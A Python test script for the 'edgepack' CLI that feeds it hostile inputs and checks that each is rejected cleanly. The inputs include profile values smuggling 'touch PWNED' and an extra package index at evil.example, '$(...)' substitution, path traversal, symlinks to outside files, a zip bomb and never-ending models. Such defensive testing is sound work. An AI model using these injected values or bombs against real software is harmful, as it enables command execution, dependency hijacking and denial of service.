"""Hostile inputs through the CLI, as a new user would meet them (issue #14).

    python tests/hostile_cli.py [--only NAME ...] [--json]

Every case runs ``python -m edgepack ...`` in a fresh folder of its own and checks what the
security model promises: exit 2 (bad input) or 1 (a target not built, a verify finding), ONE line on stderr besides
progress lines, no file outside OUT changed, nothing of the user's deleted, no command run by a
profile (no ``PWNED`` file), and a never-ending model stopped within its time limit.

The table it prints is what /work/notes/security.md records.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "sample_apps" / "model" / "digits_cnn.onnx"
CALIB = REPO / "sample_apps" / "model" / "calibration"
TIMEOUT = 300


# ------------------------------------------------------------------------------------------ inputs


def loop_model(path: Path, trip: int = 2**62) -> Path:
    """A Loop that never ends in practice: trip count 2^62, condition always true."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["acc_in", "one"], ["acc_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [1, 4])],
        [numpy_helper.from_array(np.ones((1, 4), np.float32), "one")])
    graph = helper.make_graph(
        [helper.make_node("Loop", ["trip", "cond", "x"], ["y"], body=body)], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        [numpy_helper.from_array(np.array(trip, np.int64), "trip"), numpy_helper.from_array(np.array(True), "cond")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, str(path))
    return path


def exp_model(path: Path) -> Path:
    """y = Exp(x * 1000): its fp32 outputs overflow to inf (numpy warns on inf - inf)."""
    graph = helper.make_graph(
        [helper.make_node("Mul", ["x", "k"], ["t"]), helper.make_node("Exp", ["t"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 8])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 8])],
        [numpy_helper.from_array(np.array(1000.0, np.float32), "k")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, str(path))
    return path


def reshape_model(path: Path) -> Path:
    """A Reshape to a shape given as an input: loads, then fails when run on generated inputs (onnxruntime logs it)."""
    graph = helper.make_graph(
        [helper.make_node("Reshape", ["x", "s"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 6]),
         helper.make_tensor_value_info("s", TensorProto.INT64, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["a", "b"])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.checker.check_model(model)
    onnx.save(model, str(path))
    return path


def profile(path: Path, **replace: str) -> Path:
    """rpi4-cpu's profile text with lines replaced (key -> new line)."""
    lines = (REPO / "targets" / "rpi4-cpu.toml").read_text(encoding="utf-8").splitlines()
    out = []
    for line in lines:
        key = line.split("=", 1)[0].strip()
        out.append(replace.pop(key) if key in replace and "=" in line else line)
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


def npy_header(path: Path, shape: tuple[int, ...], payload: bytes = b"\0" * 64) -> Path:
    with path.open("wb") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "<f4", "fortran_order": False, "shape": shape})
        f.write(payload)
    return path


def npz_bomb(path: Path, gb: float = 3.6) -> Path:
    """A small .npz whose one member inflates to ``gb`` GB of zeros (written in chunks)."""
    n = int(gb * 1e9 / 4)
    header = {"descr": "<f4", "fortran_order": False, "shape": (n // (3 * 8 * 8), 3, 8, 8)}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("x.npy", "w", force_zip64=True) as f:
            np.lib.format.write_array_header_1_0(f, header)
            chunk = b"\0" * (1 << 24)
            left = header["shape"][0] * 3 * 8 * 8 * 4
            while left > 0:
                f.write(chunk[: min(left, len(chunk))])
                left -= len(chunk)
    return path


def tiny_cnn(path: Path) -> Path:
    sys.path.insert(0, str(REPO / "tests"))
    from conftest import tiny_cnn as make

    onnx.save(make(batch=1), str(path))
    return path


# ------------------------------------------------------------------------------------------ checks


def snapshot(root: Path, skip: Path | None) -> dict[str, str]:
    """sha256 (or link target, or kind) of every entry under ``root`` except the ``skip`` subtree."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        d = Path(dirpath)
        if skip is not None and (d == skip or skip in d.parents):
            dirnames[:] = []
            continue
        for name in dirnames + filenames:
            p = d / name
            if skip is not None and p == skip:
                continue
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = "link:" + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
            elif p.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = "special"
    return out


def run(argv: list[str], cwd: Path, timeout: float = TIMEOUT, env: dict | None = None):
    start = time.perf_counter()
    full_env = {**os.environ, **(env or {})}
    try:
        p = subprocess.run([sys.executable, "-m", "edgepack", *argv], cwd=cwd, capture_output=True, text=True,
                           timeout=timeout, env=full_env)
        code, err = p.returncode, p.stderr
    except subprocess.TimeoutExpired as exc:
        code, err = "TIMEOUT", (exc.stderr.decode() if isinstance(exc.stderr, bytes) else (exc.stderr or ""))
    return code, err, time.perf_counter() - start


# ------------------------------------------------------------------------------------------ cases

CASES = {}


def case(name):
    def deco(fn):
        CASES[name] = fn
        return fn
    return deco


def _build(model, out, *extra, target="rpi4-cpu"):
    return ["build", str(model), "--target", str(target), "-o", str(out), *extra]


@case("1a profile name with a newline and a command")
def _(d):
    p = profile(d / "evil.toml", name='name = "x\\ntouch PWNED"')
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=p), 2


@case("1b stock_package with newlines (extra index, extra package)")
def _(d):
    p = profile(d / "evil.toml", name='name = "pkg"',
                stock_package='stock_package = "onnxruntime\\n--extra-index-url https://evil.example/simple\\nevilpkg"')
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=p), 2


@case("1c $(...) in a --config flag value")
def _(d):
    text = profile(d / "evil.toml", name='name = "cfg"').read_text()
    text = text.replace('"--config", "MinSizeRel"', '"--config", "$(touch PWNED)"')
    (d / "evil.toml").write_text(text)
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=d / "evil.toml"), 2


@case("1d profile name '*' (glob in leftover cleaning)")
def _(d):
    p = profile(d / "star.toml", name='name = "*"')
    (d / "OUT" / ".mine.keep-4000000-x").mkdir(parents=True)
    (d / "OUT" / ".mine.keep-4000000-x" / "notes.txt").write_text("mine")
    return _build(SAMPLE, "OUT", "--calibration", CALIB, "--force", target=p), 2


@case("1e profile name '../escape' (path out of OUT)")
def _(d):
    p = profile(d / "esc.toml", name='name = "../escape"')
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=p), 2


@case("1f control character in a nested table value")
def _(d):
    text = profile(d / "ctl.toml", name='name = "ctl"').read_text()
    text = text.replace('"idle_w" = "geerlingguy', '"idle_w" = "\\u001b[2Jgeerlingguy')
    (d / "ctl.toml").write_text(text)
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=d / "ctl.toml"), 2


@case("1g extends with a NUL")
def _(d):
    (d / "nul.toml").write_text('extends = "rpi4-cpu\\u0000"\nname = "nul"\n')
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=d / "nul.toml"), 2


def _bundle(d: Path) -> Path:
    out = d / "OUT"
    subprocess.run([sys.executable, "-m", "edgepack", "build", str(SAMPLE), "--target", "rpi4-cpu", "-o", str(out),
                    "--calibration", str(CALIB), "--json"], check=True, capture_output=True)
    return out / "rpi4-cpu"


def _edit_manifest(bundle: Path, edit) -> None:
    path = bundle / "manifest.json"
    doc = json.loads(path.read_text())
    edit(doc)
    path.write_text(json.dumps(doc))


@case("2 verify: a manifest naming engine 'evil' with evil.py in the bundle")
def _(d):
    b = _bundle(d)
    (b / "evil.py").write_text("open('PWNED', 'w').write('ran')\n")
    _edit_manifest(b, lambda doc: doc["target"].update(engine="evil"))
    return ["verify", str(b)], 1


@case("3a --force with the model inside the destination")
def _(d):
    proj = d / "proj"
    (proj / "rpi4-cpu").mkdir(parents=True)
    shutil.copy(SAMPLE, proj / "rpi4-cpu" / "model.onnx")
    (proj / "rpi4-cpu" / "notes.txt").write_text("my notes")
    return _build(proj / "rpi4-cpu" / "model.onnx", proj, "--calibration", CALIB, "--force"), 2


@case("3b --force with the calibration folder inside the destination")
def _(d):
    (d / "OUT" / "rpi4-cpu" / "calib").mkdir(parents=True)
    shutil.copy(CALIB / "input.npy", d / "OUT" / "rpi4-cpu" / "calib" / "input.npy")
    return _build(SAMPLE, "OUT", "--calibration", d / "OUT" / "rpi4-cpu" / "calib", "--force"), 2


@case("3c --force with the profile file inside the destination")
def _(d):
    (d / "OUT" / "mine").mkdir(parents=True)
    p = profile(d / "OUT" / "mine" / "mine.toml", name='name = "mine"')
    return _build(SAMPLE, "OUT", "--calibration", CALIB, "--force", target=p), 2


@case("3d --force onto a folder that is not a bundle")
def _(d):
    (d / "OUT" / "rpi4-cpu").mkdir(parents=True)
    (d / "OUT" / "rpi4-cpu" / "thesis.tex").write_text("years of work")
    return _build(SAMPLE, "OUT", "--calibration", CALIB, "--force"), 2


@case("3e --force with the model copied into an earlier bundle")
def _(d):
    b = _bundle(d)
    shutil.copy(SAMPLE, b / "mine.onnx")
    (b / "notes.txt").write_text("my notes")
    return _build(b / "mine.onnx", "OUT", "--calibration", CALIB, "--force"), 2


@case("4a OUT/<target>.build.json is a symlink to a file elsewhere")
def _(d):
    (d / "user").mkdir()
    (d / "user" / "victim.txt").write_text("precious")
    (d / "OUT").mkdir()
    os.symlink(d / "user" / "victim.txt", d / "OUT" / "rpi4-cpu.build.json")
    return _build(SAMPLE, "OUT", "--calibration", CALIB), 0


@case("4b OUT/report.md is a symlink to a file elsewhere (compare)")
def _(d):
    (d / "user").mkdir()
    (d / "user" / "victim.txt").write_text("precious")
    (d / "OUT").mkdir()
    os.symlink(d / "user" / "victim.txt", d / "OUT" / "report.md")
    return ["compare", str(SAMPLE), "--targets", "rpi4-cpu", "-o", "OUT", "--calibration", str(CALIB)], 0


@case("5a a Loop with trip count 2^62 (--time-limit 5)")
def _(d):
    return _build(loop_model(d / "loop.onnx"), "OUT", "--time-limit", "5"), 2


@case("5b a Loop with trip count 2^62 (EDGEPACK_TIME_LIMIT=5)")
def _(d):
    return ["build", str(loop_model(d / "loop.onnx")), "--target", "rpi4-cpu", "-o", "OUT"], 2


@case("5g verify: a bundle whose model.ort never ends (--time-limit 5)")
def _(d):
    import onnxruntime as ort

    b = _bundle(d)
    so = ort.SessionOptions()
    so.optimized_model_filepath = str(b / "model.ort")
    so.add_session_config_entry("session.save_model_format", "ORT")
    so.log_severity_level = 3
    ort.InferenceSession(str(loop_model(d / "loop.onnx")), so, providers=["CPUExecutionProvider"])
    data = (b / "model.ort").read_bytes()

    def edit(doc):
        for a in doc["artifacts"]:
            if a["path"] == "model.ort":
                a.update(bytes=len(data), sha256=hashlib.sha256(data).hexdigest())
        doc["models"][0]["source_model"]["inputs"] = [{"name": "x", "dtype": "float32", "shape": [1, 4]}]
        doc["models"][0]["shipped_inputs"] = [{"name": "x", "dtype": "float32", "shape": [1, 4]}]
    _edit_manifest(b, edit)
    return ["verify", str(b), "--time-limit", "5"], 1


@case("5c a 2.4 MB .npz that inflates to 3.6 GB")
def _(d):
    (d / "calib").mkdir()
    npz_bomb(d / "calib" / "bomb.npz")
    return _build(tiny_cnn(d / "tiny.onnx"), "OUT", "--calibration", d / "calib"), 2


@case("5d a .npy header claiming 2^40 samples")
def _(d):
    (d / "calib").mkdir()
    npy_header(d / "calib" / "x.npy", (2**40, 3, 8, 8))
    return _build(tiny_cnn(d / "tiny.onnx"), "OUT", "--calibration", d / "calib"), 2


@case("5e a .npy header claiming a 2^40 dimension")
def _(d):
    (d / "calib").mkdir()
    npy_header(d / "calib" / "x.npy", (4, 3, 8, 2**40))
    return _build(tiny_cnn(d / "tiny.onnx"), "OUT", "--calibration", d / "calib"), 2


@case("5f a profile with 20,000 compute units")
def _(d):
    text = profile(d / "many.toml", name='name = "many"').read_text()
    units = "".join(f'\n[device.units.u{i}]\nkind = "gpu"\nactive_w = 1.0\n' for i in range(20000))
    srcs = "".join(f'"units.u{i}.active_w" = "x"\n' for i in range(20000))
    text = text.replace("[device.sources]\n", units + "\n[device.sources]\n" + srcs)
    (d / "many.toml").write_text(text)
    return ["inspect", str(SAMPLE), "--target", str(d / "many.toml")], 2


@case("6a a profile nested 5000 tables deep")
def _(d):
    (d / "deep.toml").write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    return ["inspect", str(SAMPLE), "--target", str(d / "deep.toml")], 2


@case("6b extends 1200 deep")
def _(d):
    (d / "p0.toml").write_text('extends = "rpi4-cpu"\nname = "p0"\n')
    for i in range(1, 1200):
        (d / f"p{i}.toml").write_text(f'extends = "p{i - 1}.toml"\nname = "p{i}"\n')
    return ["inspect", str(SAMPLE), "--target", str(d / "p1199.toml")], 2


@case("6c verify: a NUL in an artifact path")
def _(d):
    b = _bundle(d)
    _edit_manifest(b, lambda doc: doc["artifacts"][0].update(path="model\0.ort"))
    return ["verify", str(b)], 1


@case("6d a NUL in a profile's extends path")
def _(d):
    (d / "nul.toml").write_text('extends = "base\\u0000.toml"\nname = "nul"\n')
    return _build(SAMPLE, "OUT", "--calibration", CALIB, target=d / "nul.toml"), 2


@case("6e verify: wrong-typed manifest fields")
def _(d):
    b = _bundle(d)
    _edit_manifest(b, lambda doc: doc.update(target="rpi4-cpu", models={"a": 1}, artifacts=[1, {"path": 3}]))
    return ["verify", str(b)], 1


@case("6f verify: a manifest nested 100,000 deep")
def _(d):
    b = _bundle(d)
    (b / "manifest.json").write_text("[" * 100000 + "]" * 100000)
    return ["verify", str(b)], 2


@case("6g compare: pyproject.toml with tool = 1")
def _(d):
    (d / "pyproject.toml").write_text("tool = 1\n")
    return ["compare", str(SAMPLE), "--targets", "rpi4-cpu", "-o", "OUT", "--calibration", str(CALIB)], 2


@case("6h compare: pyproject.toml with [tool.edgepack] = a string")
def _(d):
    (d / "pyproject.toml").write_text('[tool]\nedgepack = "fast"\n')
    return ["compare", str(SAMPLE), "--targets", "rpi4-cpu", "-o", "OUT", "--calibration", str(CALIB)], 2


@case("6i compare: a baseline report with wrong-typed fields")
def _(d):
    (d / "old.json").write_text(json.dumps({"targets": {"rpi4-cpu": {"model_bytes": "x", "accuracy": 3}}}))
    return ["compare", str(SAMPLE), "--targets", "rpi4-cpu", "-o", "OUT", "--calibration", str(CALIB),
            "--baseline", "old.json"], 2


@case("6j OUT/<target>.build.json is a folder")
def _(d):
    (d / "OUT" / "rpi4-cpu.build.json").mkdir(parents=True)
    return _build(SAMPLE, "OUT", "--calibration", CALIB), 2


@case("7a fp32 outputs overflow to inf (numpy RuntimeWarning)")
def _(d):
    # no recipe can pass a check against NaN/Inf: the target is not built (exit 1, #12's failure semantics)
    return _build(exp_model(d / "exp.onnx"), "OUT"), 1


@case("7b a model that fails when run (onnxruntime error log)")
def _(d):
    return _build(reshape_model(d / "bad.onnx"), "OUT"), 2


@case("8b --force onto a symlink destination")
def _(d):
    (d / "user" / "elsewhere").mkdir(parents=True)
    (d / "user" / "elsewhere" / "keep.txt").write_text("mine")
    (d / "OUT").mkdir()
    os.symlink(d / "user" / "elsewhere", d / "OUT" / "rpi4-cpu")
    return _build(SAMPLE, "OUT", "--calibration", CALIB, "--force"), 2


@case("8c a multi-target build that fails on its second target")
def _(d):
    (d / "strict.toml").write_text(
        'extends = "rpi4-cpu"\nname = "strict"\n\n[[quantization]]\nname = "static-int8"\nactivation_type = "uint8"\n'
        'weight_type = "int8"\ntolerance = { cosine_min = 1.0 }\n')
    # judged as an embedding, cosine 1.0 cannot be met: the second target fails, the first is built (exit 1)
    return _build(SAMPLE, "OUT", "--calibration", CALIB, "--target", d / "strict.toml", "--output-kind",
                  "logits=embedding", target="rpi4-cpu"), 1


@case("9a verify: a FIFO, a folder, a symlink out and a dangling link as extras")
def _(d):
    b = _bundle(d)
    os.mkfifo(b / "fifo")
    (b / "extra_dir").mkdir()
    os.symlink("/etc/passwd", b / "out_link")
    os.symlink(b / "missing", b / "dangling")
    return ["verify", str(b)], 1


@case("9b verify: models: []")
def _(d):
    b = _bundle(d)
    _edit_manifest(b, lambda doc: doc.update(models=[]))
    return ["verify", str(b)], 1


@case("9c verify --manifest-sha256 of an edited manifest")
def _(d):
    b = _bundle(d)
    digest = hashlib.sha256((b / "manifest.json").read_bytes()).hexdigest()
    _edit_manifest(b, lambda doc: doc["recipe"]["decisions"].append("edited"))
    return ["verify", str(b), "--manifest-sha256", digest], 1


def _sigterm(d: Path) -> dict:
    """8a: SIGTERM while a model runs: exit 143 at once, temporary folders removed; after SIGKILL the
    next build sweeps what the killed one left."""
    tmp = d / "tmp"
    tmp.mkdir()
    env = {**os.environ, "TMPDIR": str(tmp)}
    loop = loop_model(d / "loop.onnx")
    cmd = [sys.executable, "-m", "edgepack", "build", str(loop), "--target", "rpi4-cpu", "-o", "OUT",
           "--time-limit", "600"]
    proc = subprocess.Popen(cmd, cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=env)
    time.sleep(3.0)
    during = sorted(p.name for p in tmp.iterdir() if p.name.startswith("edgepack-"))
    sent = time.perf_counter()
    proc.send_signal(signal.SIGTERM)
    err = proc.communicate(timeout=60)[1]
    seconds = round(time.perf_counter() - sent, 2)
    term_code = proc.returncode
    left = sorted(p.name for p in tmp.iterdir() if p.name.startswith("edgepack-"))
    build = [sys.executable, "-m", "edgepack", "build", str(SAMPLE), "--target", "rpi4-cpu", "-o", "OUT1", "--force",
             "--calibration", str(CALIB)]
    killed_left: list[str] = []
    for delay in (0.5, 0.7, 0.9, 0.6, 0.8, 1.1, 1.4, 1.9):  # SIGKILL while a stage's temporary folder exists
        proc = subprocess.Popen(build, cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        killed_left = sorted(p.name for p in tmp.iterdir() if p.name.startswith("edgepack-"))
        if killed_left:
            break
    subprocess.run([sys.executable, "-m", "edgepack", "build", str(SAMPLE), "--target", "rpi4-cpu", "-o", "OUT2",
                    "--calibration", str(CALIB)], cwd=d, capture_output=True, env=env)
    after = sorted(p.name for p in tmp.iterdir() if p.name.startswith("edgepack-"))
    lines = [x for x in err.splitlines() if not x.startswith("... ")]
    ok = term_code == 143 and lines == ["error: terminated"] and not left and bool(killed_left) and not after
    return {"sigterm_exit": term_code, "stderr": lines, "seconds_to_exit": seconds, "temp_during": during,
            "left_after_sigterm": left, "left_after_sigkill": killed_left, "left_after_next_build": after,
            "ok": ok and seconds < 10}


FULL = ("1d", "3", "8b")


def run_case(name: str, setup, root: Path) -> dict:
    d = root / name.split()[0]
    d.mkdir(parents=True)
    argv, expected = setup(d)
    argv = [str(a) for a in argv]
    out = None
    if "-o" in argv:
        out = (d / argv[argv.index("-o") + 1]).resolve() if "\0" not in argv[argv.index("-o") + 1] else None
    env = {"EDGEPACK_TIME_LIMIT": "5"} if name.startswith("5b") else None
    full = name.startswith(FULL)  # OUT holds the user's own files in these cases
    before = snapshot(d, None if full else out)
    code, err, seconds = run(argv, d, env=env)
    after = snapshot(d, None if full else out)
    lines = [x for x in err.splitlines() if not x.startswith("... ")]
    if full:  # nothing of the user's may change or go (new files in OUT are fine)
        changed = sorted(k for k in before if before[k] != after.get(k))
    else:
        changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    pwned = [str(p) for p in d.rglob("PWNED")] + ([str(REPO / "PWNED")] if (REPO / "PWNED").exists() else [])
    ok = code == expected and len(lines) == (0 if expected == 0 else 1) and not changed and not pwned and "Traceback" not in err
    return {"case": name, "argv": ["edgepack", *[a.replace(str(d) + "/", "").replace(str(REPO) + "/", "") for a in argv]],
            "expected": expected, "code": code, "stderr_lines": len(lines), "first": lines[0][:200] if lines else "",
            "seconds": round(seconds, 1), "changed_outside_out": changed, "pwned": pwned, "ok": ok}


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--only", nargs="*", default=[])
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    root = Path(tempfile.mkdtemp(prefix="hostile-"))
    results = []
    for name, setup in CASES.items():
        if args.only and not any(name.startswith(o) for o in args.only):
            continue
        r = run_case(name, setup, root)
        results.append(r)
        if not args.json:
            flag = "ok  " if r["ok"] else "FAIL"
            print(f"{flag} {r['case']}: exit {r['code']} (want {r['expected']}), {r['stderr_lines']} stderr line(s), "
                  f"{r['seconds']} s", flush=True)
            print(f"     $ {' '.join(repr(a) if (' ' in a or not a.isprintable()) else a for a in r['argv'])}")
            print(f"     {r['first']}")
            if r["changed_outside_out"] or r["pwned"]:
                print(f"     changed outside OUT: {r['changed_outside_out']}  PWNED: {r['pwned']}")
    if not args.only or any("8a".startswith(o) or o.startswith("8a") for o in args.only):
        d = root / "8a"
        d.mkdir()
        r = _sigterm(d)
        results.append({"case": "8a SIGTERM / SIGKILL leftovers", **r})
        if not args.json:
            print(f"{'ok  ' if r['ok'] else 'FAIL'} 8a SIGTERM during a run: exit {r['sigterm_exit']} after "
                  f"{r['seconds_to_exit']} s, stderr {r['stderr']}; temp during {r['temp_during']}, after "
                  f"SIGTERM {r['left_after_sigterm']}; after SIGKILL {r['left_after_sigkill']}; after the next "
                  f"build {r['left_after_next_build']}")
    if args.json:
        print(json.dumps(results, indent=2))
    shutil.rmtree(root, ignore_errors=True)
    return 0 if all(r.get("ok", True) for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
